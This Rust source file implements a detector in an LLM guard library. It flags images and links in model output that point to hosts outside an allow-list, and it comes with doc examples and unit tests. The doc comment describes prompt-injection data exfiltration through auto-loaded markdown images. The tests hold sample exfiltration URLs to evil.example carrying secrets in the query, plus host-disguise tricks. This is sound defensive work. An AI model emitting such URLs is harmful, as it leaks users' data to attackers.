//! [`ExfilDetector`]: images and links in the output that point outside an allow-list.

use std::sync::LazyLock;

use llmops_core::{Finding, TextSource};
use regex::{Captures, Regex};
use url::{Host, Url};

use super::error::OutputError;
use crate::detector::Detector;

/// Category of an auto-loaded resource (markdown or HTML image, iframe, script ...) to a host
/// outside the allow-list: rendering the answer sends the request, no click needed.
pub const EXFIL_IMAGE: &str = "output.exfil_image";
/// Category of a link (markdown, reference-style, HTML `<a>`, bare URL) to a host outside the
/// allow-list.
pub const EXFIL_LINK: &str = "output.exfil_link";

/// Candidate URLs, by how they appear. Alternatives are tried leftmost-first, so an image wins
/// over the link syntax it contains and a markdown URL is not seen again as a bare one.
const CANDIDATES: &str = r#"(?x)
    !\[[^\[\]\n]{0,200}\]\([\ \t]{0,4}<?(?P<img>[^\s)>]+)
  | \[[^\[\]\n]{0,200}\]\([\ \t]{0,4}<?(?P<link>[^\s)>]+)
  | (?m:^)[\ ]{0,3}\[(?P<label>[^\[\]\n]{1,100})\]:[\ \t]{0,4}<?(?P<refurl>[^\s>]+)
  | <(?P<tag>(?i:img|image|video|audio|source|track|iframe|frame|embed|object|script|link|input|body|a|area|form))(?-u:\b)[^>]{0,300}?(?i:src|href|data|poster|background|action|srcset)[\ \t]{0,4}=[\ \t]{0,4}["']?(?P<html>[^"'\s>]+)
  | (?P<bare>(?i:https?|ftp|wss?)://[^\s<>"'`\])]+)
"#;

#[allow(clippy::expect_used)] // a constant pattern; the tests compile it
static CANDIDATE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(CANDIDATES).expect("exfil pattern compiles"));

/// An authority longer than this (a padded user-info) is suspicious in itself; it also bounds
/// how far into a URL the decision is taken (the hold-back window).
const MAX_AUTHORITY: usize = 256;

/// One allow-list rule.
#[derive(Debug, Clone, PartialEq, Eq)]
enum HostRule {
    /// Exactly this host (ASCII, punycode, lowercase, no trailing dot).
    Exact(String),
    /// Any subdomain of this domain (stored with its leading dot: `.ourcompany.com`).
    Subdomains(String),
}

/// Finds images and links in the model's output that point to hosts outside an allow-list: a
/// prompt-injected model can leak data by writing `![](https://evil.example/?q=<secret>)`,
/// which the chat UI fetches as soon as it renders the answer.
///
/// It looks at markdown images and links, reference-style definitions (an image when a
/// `![...][label]` uses them), HTML `src`/`href` attributes (`<img>`, `<iframe>`, `<script>`,
/// `<a>` ...) and bare `http(s)://`, `ftp://`, `ws(s)://` URLs. Each URL is parsed with the
/// WHATWG rules of the `url` crate, so `https://ourcompany.com@evil.example/`,
/// `https://evil.example\@ourcompany.com`, `https://ourcompany.com.evil.example` and
/// internationalised look-alikes (`https://оurcompany.com`, a Cyrillic `о`, which is
/// `xn--urcompany-...` once parsed) all resolve to the host the browser would contact.
///
/// Scores: an auto-loaded resource 0.6, a markdown or HTML link 0.35, a bare URL 0.25; plus
/// 0.25 when the URL carries a query, 0.15 for a long path (data in the URL), 0.2 for a
/// user-info part (`user@host`, a classic disguise), 0.1 for a punycode or IP-address host or
/// an authority over 256 bytes; at most 1. Relative URLs, `data:` and `mailto:` URLs are not
/// reported.
///
/// ```
/// use llmops_core::TextSource;
/// use llmops_guard::Detector;
/// use llmops_guard::output::ExfilDetector;
///
/// let d = ExfilDetector::new(["ourcompany.com", "*.ourcompany.com"])?;
/// let answer = "See ![status](https://cdn.ourcompany.com/ok.png) and \
///               ![x](https://ourcompany.com@evil.example/p.png?q=SECRET)";
/// let mut found = Vec::new();
/// d.scan(answer, TextSource::Output, &mut found);
/// assert_eq!(found.len(), 1);
/// assert_eq!(found[0].category, "output.exfil_image");
/// assert!(answer[found[0].start..].starts_with("https://ourcompany.com@evil.example"));
/// assert!(found[0].score >= 0.9);
/// # Ok::<(), llmops_guard::output::OutputError>(())
/// ```
#[derive(Debug, Clone, Default)]
pub struct ExfilDetector {
    allow: Vec<HostRule>,
    bare_urls: bool,
}

impl ExfilDetector {
    /// A detector allowing the hosts of `allow`: exact hosts (`ourcompany.com`, Unicode names
    /// are converted to punycode), subdomain wildcards (`*.ourcompany.com` allows
    /// `a.ourcompany.com` and `a.b.ourcompany.com` but not `ourcompany.com` itself, as in a
    /// Content-Security-Policy: list both), or IP addresses. With an empty list every
    /// absolute URL is reported.
    pub fn new<I, S>(allow: I) -> Result<Self, OutputError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut rules = Vec::new();
        for entry in allow {
            rules.push(parse_rule(entry.as_ref())?);
        }
        Ok(ExfilDetector {
            allow: rules,
            bare_urls: true,
        })
    }

    /// A detector allowing no host: every absolute URL in output is reported (the default
    /// guard's; scores tell an auto-loaded image or a URL carrying data from a plain link).
    ///
    /// ```
    /// use llmops_core::TextSource;
    /// use llmops_guard::Detector;
    /// let d = llmops_guard::output::ExfilDetector::none_allowed();
    /// let mut found = Vec::new();
    /// d.scan("![x](https://evil.example/p.png?d=secret)", TextSource::Output, &mut found);
    /// assert_eq!(found[0].category, "output.exfil_image");
    /// ```
    pub fn none_allowed() -> Self {
        ExfilDetector {
            allow: Vec::new(),
            bare_urls: true,
        }
    }

    /// Whether bare URLs (outside markdown and HTML) are reported (default yes: chat tools
    /// that unfurl links fetch them too).
    #[must_use]
    pub fn bare_urls(mut self, on: bool) -> Self {
        self.bare_urls = on;
        self
    }

    /// Whether `host` (as the `url` crate gives it: lowercase, punycode) is allowed.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        self.allow.iter().any(|r| match r {
            HostRule::Exact(h) => host == h,
            HostRule::Subdomains(suffix) => {
                host.len() > suffix.len() && host.ends_with(suffix.as_str())
            }
        })
    }

    /// Scores one candidate URL at `start..end`; `None` when allowed, relative, of another
    /// scheme, or not decidable yet (its host runs to the end of the text: a stream may still
    /// extend it).
    fn judge(&self, text: &str, start: usize, end: usize, base: f32) -> Option<f32> {
        let raw = text.get(start..end)?;
        let absolute = if raw.starts_with("//") {
            format!("https:{raw}")
        } else {
            raw.to_owned()
        };
        let lower = absolute.to_ascii_lowercase();
        let scheme_end = lower.find("://")?;
        if !matches!(
            lower.get(..scheme_end),
            Some("http" | "https" | "ftp" | "ws" | "wss")
        ) {
            return None;
        }
        let after = scheme_end + 3;
        let authority_len = absolute
            .get(after..)?
            .find(['/', '?', '#', '\\'])
            .unwrap_or(absolute.len() - after);
        let long_authority = authority_len > MAX_AUTHORITY;
        let offset = absolute.len() - raw.len();
        if !long_authority && start + (after - offset) + authority_len >= text.len() {
            return None; // the host may still grow
        }
        let mut score = base;
        match Url::parse(&absolute) {
            Ok(url) => {
                let host = url.host()?;
                let allowed = match &host {
                    Host::Domain(d) => self.allows(d),
                    Host::Ipv4(ip) => self.allows(&ip.to_string()),
                    Host::Ipv6(ip) => self.allows(&format!("[{ip}]")),
                };
                if allowed && !long_authority {
                    return None;
                }
                if url.query().is_some_and(|q| !q.is_empty()) {
                    score += 0.25;
                }
                let path = url.path();
                if path.len() >= 32 || path.split('/').any(|seg| seg.len() >= 16) {
                    score += 0.15;
                }
                if !url.username().is_empty() || url.password().is_some() {
                    score += 0.2;
                }
                let odd_host = match &host {
                    Host::Domain(d) => d.split('.').any(|l| l.starts_with("xn--")),
                    Host::Ipv4(_) | Host::Ipv6(_) => true,
                };
                if odd_host || long_authority {
                    score += 0.1;
                }
            }
            // looked like an absolute URL but is not one a browser accepts: whatever it
            // points to is not known to be allowed
            Err(_) => score += 0.1,
        }
        Some(score.min(1.0))
    }

    fn candidate(&self, text: &str, caps: &Captures<'_>, out: &mut Vec<Finding>) {
        let (m, category, base) = if let Some(m) = caps.name("img") {
            (m, EXFIL_IMAGE, 0.6)
        } else if let Some(m) = caps.name("link") {
            (m, EXFIL_LINK, 0.35)
        } else if let Some(m) = caps.name("refurl") {
            let label = caps.name("label").map_or("", |l| l.as_str());
            if referenced_as_image(text, label) {
                (m, EXFIL_IMAGE, 0.6)
            } else {
                (m, EXFIL_LINK, 0.35)
            }
        } else if let Some(m) = caps.name("html") {
            let tag = caps.name("tag").map_or("", |t| t.as_str());
            if tag.eq_ignore_ascii_case("a")
                || tag.eq_ignore_ascii_case("area")
                || tag.eq_ignore_ascii_case("form")
            {
                (m, EXFIL_LINK, 0.35)
            } else {
                (m, EXFIL_IMAGE, 0.6)
            }
        } else if let Some(m) = caps.name("bare") {
            if !self.bare_urls {
                return;
            }
            (m, EXFIL_LINK, 0.25)
        } else {
            return;
        };
        // sentence punctuation after a URL in prose
        let trimmed = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
        let end = m.start() + trimmed.len();
        if let Some(score) = self.judge(text, m.start(), end, base) {
            out.push(Finding::new(category, m.start(), end, score));
        }
    }
}

/// Whether a reference definition's `label` is used by an image: `![alt][label]`,
/// `![label][]` or `![label]` (labels compare case-insensitively).
fn referenced_as_image(text: &str, label: &str) -> bool {
    let lower = text.to_lowercase();
    let label = label.to_lowercase();
    let full = format!("][{label}]");
    let short = format!("![{label}]");
    if lower.contains(&short) {
        return true;
    }
    lower.match_indices(&full).any(|(at, _)| {
        let line_start = lower
            .get(..at)
            .and_then(|b| b.rfind('\n'))
            .map_or(0, |i| i + 1);
        lower
            .get(line_start..at)
            .and_then(|b| b.rfind('['))
            .is_some_and(|open| {
                open > 0 && lower.as_bytes().get(line_start + open - 1) == Some(&b'!')
            })
    })
}

/// Parses an allow-list entry.
fn parse_rule(entry: &str) -> Result<HostRule, OutputError> {
    let bad = |reason: &str| OutputError::InvalidHost {
        entry: entry.to_owned(),
        reason: reason.to_owned(),
    };
    let e = entry.trim().trim_end_matches('.');
    let (wild, name) = match e.strip_prefix("*.") {
        Some(rest) => (true, rest),
        None => (false, e),
    };
    if name.is_empty() || name.contains(['*', '/', '@', ':']) && !name.starts_with('[') {
        return Err(bad(
            "expected a host such as `example.com` or `*.example.com`",
        ));
    }
    let host = Host::parse(name).map_err(|e| bad(&e.to_string()))?;
    let ascii = match host {
        Host::Domain(d) => d.to_ascii_lowercase(),
        Host::Ipv4(ip) if !wild => ip.to_string(),
        Host::Ipv6(ip) if !wild => format!("[{ip}]"),
        _ => return Err(bad("a wildcard needs a domain")),
    };
    Ok(if wild {
        HostRule::Subdomains(format!(".{ascii}"))
    } else {
        HostRule::Exact(ascii)
    })
}

impl Detector for ExfilDetector {
    fn name(&self) -> &str {
        "exfil"
    }

    fn scan(&self, text: &str, source: TextSource, out: &mut Vec<Finding>) {
        if source != TextSource::Output || !text.contains("//") {
            return;
        }
        for caps in CANDIDATE.captures_iter(text) {
            self.candidate(text, &caps, out);
        }
    }

    /// 640 bytes: the decision needs a URL up to the end of its host, after at most 200 bytes
    /// of alt text or 300 of HTML attributes; an authority longer than 256 bytes is reported
    /// as such. A stream tap holding back this many bytes releases no part of a reported URL.
    fn max_match_len(&self) -> Option<usize> {
        Some(640)
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::*;

    fn found(d: &ExfilDetector, text: &str) -> Vec<(&'static str, String, f32)> {
        let mut out = Vec::new();
        d.scan(text, TextSource::Output, &mut out);
        out.iter()
            .map(|f| {
                let cat = if f.category == EXFIL_IMAGE {
                    EXFIL_IMAGE
                } else {
                    EXFIL_LINK
                };
                (cat, text[f.start..f.end].to_owned(), f.score)
            })
            .collect()
    }

    fn ours() -> ExfilDetector {
        ExfilDetector::new([
            "ourcompany.com",
            "*.ourcompany.com",
            "bücher.de",
            "10.0.0.1",
        ])
        .unwrap()
    }

    #[test]
    fn pattern_compiles() {
        assert!(CANDIDATE.is_match("https://a.b"));
    }

    #[test]
    fn images_links_and_html() {
        let d = ours();
        let f = found(&d, "![a](https://evil.example/i.png?d=abc) ok");
        assert_eq!(
            (f[0].0, f[0].1.as_str()),
            (EXFIL_IMAGE, "https://evil.example/i.png?d=abc")
        );
        assert!((f[0].2 - 0.85).abs() < 1e-6);
        let f = found(&d, "[click](https://evil.example/x) ok");
        assert_eq!(f[0].0, EXFIL_LINK);
        assert!((f[0].2 - 0.35).abs() < 1e-6);
        let f = found(
            &d,
            r#"<img alt="x" src="https://evil.example/t.gif?u=1"> ok"#,
        );
        assert_eq!(f[0].0, EXFIL_IMAGE);
        let f = found(&d, "<a href='http://evil.example/'>here</a>");
        assert_eq!(f[0].0, EXFIL_LINK);
        let f = found(&d, "<iframe src=//evil.example/frame></iframe>");
        assert_eq!(f[0].0, EXFIL_IMAGE);
        let f = found(&d, "visit https://evil.example/path, then");
        assert_eq!(
            (f[0].0, f[0].1.as_str()),
            (EXFIL_LINK, "https://evil.example/path")
        );
        assert!((f[0].2 - 0.25).abs() < 1e-6);
        assert!(
            found(
                &d.clone().bare_urls(false),
                "visit https://evil.example/path."
            )
            .is_empty()
        );
    }

    #[test]
    fn reference_style() {
        let d = ours();
        let img = "Look: ![logo][l1]\n\n[l1]: https://evil.example/l.png?x=1\n";
        assert_eq!(found(&d, img)[0].0, EXFIL_IMAGE);
        let link = "Read [the docs][d]\n\n[d]: https://evil.example/docs\n";
        assert_eq!(found(&d, link)[0].0, EXFIL_LINK);
    }

    #[test]
    fn allow_list_rules() {
        let d = ours();
        for ok in [
            "![a](https://ourcompany.com/a.png?x=1)",
            "![a](https://img.cdn.ourcompany.com/a.png)",
            "![a](https://OURCOMPANY.COM./a.png)",
            "![a](https://bücher.de/a.png)",
            "![a](https://xn--bcher-kva.de/a.png)",
            "![a](http://10.0.0.1/a.png)",
            "![a](/relative/a.png) ![b](data:image/png;base64,AAAA)",
            "[mail](mailto:someone@ourcompany.com)",
        ] {
            assert!(found(&d, &format!("{ok} ")).is_empty(), "{ok}");
        }
        for bad in [
            "![a](https://ourcompany.com.evil.example/a.png)",
            "![a](https://evilourcompany.com/a.png)",
            "![a](https://ourcompany.com@evil.example/a.png)",
            "![a](https://evil.example\\@ourcompany.com/a.png)",
            "![a](https://evil.example#@ourcompany.com)",
            "![a](https://оurcompany.com/a.png)",
            "![a](http://10.0.0.2/a.png)",
        ] {
            let f = found(&d, &format!("{bad} "));
            assert_eq!(f.len(), 1, "{bad}");
            assert_eq!(f[0].0, EXFIL_IMAGE);
        }
        // `*.` does not allow the bare domain
        let only_sub = ExfilDetector::new(["*.ourcompany.com"]).unwrap();
        assert_eq!(
            found(&only_sub, "![a](https://ourcompany.com/a.png) ").len(),
            1
        );
    }

    #[test]
    fn data_carrying_urls_and_disguises_score_higher() {
        let d = ExfilDetector::new(Vec::<String>::new()).unwrap();
        let plain = found(&d, "![a](https://evil.example/a.png)")[0].2;
        let query = found(&d, "![a](https://evil.example/a.png?q=c2VjcmV0)")[0].2;
        let userinfo = found(&d, "![a](https://ourcompany.com@evil.example/a.png?q=1)")[0].2;
        assert!(
            plain < query && query < userinfo,
            "{plain} {query} {userinfo}"
        );
        let puny = found(&d, "![a](https://xn--80ak6aa92e.com/a.png)")[0].2;
        assert!(puny > plain);
    }

    #[test]
    fn unfinished_hosts_wait_for_more_text() {
        let d = ours();
        // a stream cut inside the host: maybe `ourcompany.com` yet
        assert!(found(&d, "![a](https://ourco").is_empty());
        // the host is complete: decided
        assert_eq!(found(&d, "![a](https://evil.example/?q=").len(), 1);
        // a padded user-info does not delay the decision past the window
        let padded = format!("![a](https://{}@evil.example/x)", "a".repeat(300));
        assert!(found(&d, &padded)[0].2 >= 0.85);
        let cut = format!("![a](https://ourcompany.com.{}", "a".repeat(300));
        assert_eq!(found(&d, &cut).len(), 1);
    }

    #[test]
    fn bad_allow_list_entries_are_errors() {
        for bad in [
            "",
            "*.",
            "https://x.com/",
            "a b.com",
            "*.*.x.com",
            "*.10.0.0.1",
        ] {
            assert!(ExfilDetector::new([bad]).is_err(), "{bad:?}");
        }
        assert!(ExfilDetector::new(["[::1]", "localhost"]).is_ok());
    }

    #[test]
    fn inputs_are_not_scanned() {
        let mut out = Vec::new();
        ours().scan(
            "![a](https://evil.example/a.png)",
            TextSource::Retrieved,
            &mut out,
        );
        assert!(out.is_empty());
    }
}
